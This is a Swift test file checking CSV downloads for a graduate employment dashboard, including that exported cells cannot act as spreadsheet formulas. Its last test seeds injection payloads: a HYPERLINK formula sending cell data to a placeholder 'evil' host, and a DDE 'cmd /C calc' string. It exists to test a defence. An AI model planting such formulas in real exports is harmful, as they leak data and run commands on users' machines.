import Foundation
import GradSyncTesting
import Hummingbird
import HummingbirdTesting
import Testing

/// Every table downloads as CSV: UTF-8 with a byte-order mark, the same figures as the page.
struct CSVDownloadTests {
    @Test func overviewTableDownloadsAsExcelReadyCSV() async throws {
        let harness = try DashboardHarness()
        try await harness.test { client in
            let cookie = try await client.sessionCookie(token: harness.centralToken)
            let response = try await client.get("/?format=csv", cookie: cookie)
            #expect(response.status == .ok)
            #expect(response.headers[.contentType] == "text/csv; charset=utf-8")
            #expect(response.headers[.contentDisposition] == "attachment; filename=\"overview-departments.csv\"")
            let bytes = Array(response.body.readableBytesView)
            #expect(bytes.prefix(3) == [0xEF, 0xBB, 0xBF])
            let lines = String(decoding: bytes.dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")
            #expect(lines[0].hasPrefix("学院,名称,毕业生数,已落实,毕业去向落实率"))
            #expect(lines[1].hasPrefix("AUTO,自动化学院,6,4,0.6667,"))
            #expect(lines[3].hasPrefix("合计,合计,10,8,0.8,"))
        }
    }

    @Test func everyTableOfEveryPageDownloads() async throws {
        let harness = try DashboardHarness()
        let tables = ["/": ["departments"], "/departments/AUTO": ["majors", "degree_levels", "unplaced"],
                      "/destinations": ["destinations"], "/flows": ["regions", "industries", "natures"],
                      "/grassroots": ["grassroots"], "/assistance": ["summary", "graduates"], "/conflicts": ["conflicts"],
                      "/sync": ["replicas", "clock_suspects"]]
        try await harness.test { client in
            let cookie = try await client.sessionCookie(token: harness.centralToken)
            for (page, names) in tables {
                let html = try await client.get(page, cookie: cookie).text
                for name in names {
                    #expect(html.contains("<a href=\"?format=csv&amp;table=\(name)\">下载 CSV</a>"), "\(page) \(name)")
                    let separator = page.contains("?") ? "&" : "?"
                    let response = try await client.get("\(page)\(separator)format=csv&table=\(name)", cookie: cookie)
                    #expect(response.status == .ok, "\(page) \(name)")
                    #expect(Array(response.body.readableBytesView.prefix(3)) == [0xEF, 0xBB, 0xBF], "\(page) \(name)")
                }
            }
            #expect(try await client.get("/?format=csv&table=nope", cookie: cookie).status == .notFound)
        }
    }

    @Test func unplacedDownloadCarriesNamesForFollowUp() async throws {
        let harness = try DashboardHarness()
        try await harness.test { client in
            let cookie = try await client.sessionCookie(token: harness.centralToken)
            let text = try await client.get("/departments/AUTO?format=csv&table=unplaced", cookie: cookie).text
            #expect(text.contains("A06,钱六,AUTO,机器人工程,本科,,未填写,"))
        }
    }

    @Test func downloadedIdentifiersWithLeadingZerosOpenAsWritten() async throws {
        let harness = try DashboardHarness()
        try harness.central.write(.graduate("0212001", in: "AUTO"), fields: [
            "student_no": .string("0212001"), "name": .string("周零"), "gender": .string("1"), "degree_level": .string("本科"),
            "grad_year": .integer(2025),
        ], mode: .create, author: "fixture")
        try await harness.test { client in
            let cookie = try await client.sessionCookie(token: harness.centralToken)
            let text = try await client.get("/departments/AUTO?format=csv&table=unplaced", cookie: cookie).text
            // As the export writes it, so that Excel keeps the zero (`0212001`, not `212001`).
            #expect(text.contains("\r\n=\"0212001\",周零,AUTO,"), "\(text)")
        }
    }

    @Test func downloadedCellsCannotBeFormulas() async throws {
        let harness = try DashboardHarness()
        let name = "=HYPERLINK(\"http://evil/?\"&B2,\"点击\")"
        try harness.central.write(.graduate("A99", in: "AUTO"), fields: [
            "student_no": .string("A99"), "name": .string(name), "gender": .string("1"), "degree_level": .string("本科"),
            "grad_year": .integer(2025), "major_name": .string("@SUM(1+1)*cmd|' /C calc'!A0"),
        ], mode: .create, author: "fixture")
        try await harness.test { client in
            let cookie = try await client.sessionCookie(token: harness.centralToken)
            let text = try await client.get("/departments/AUTO?format=csv&table=unplaced", cookie: cookie).text
            #expect(text.contains("A99,\"'=HYPERLINK(\"\"http://evil/?\"\"&B2,\"\"点击\"\")\",AUTO,'@SUM(1+1)*cmd|' /C calc'!A0,本科,"), "\(text)")
            let majors = try await client.get("/departments/AUTO?format=csv&table=majors", cookie: cookie).text
            #expect(majors.contains("\r\n'@SUM(1+1)*cmd|' /C calc'!A0,"), "\(majors)")
        }
    }
}
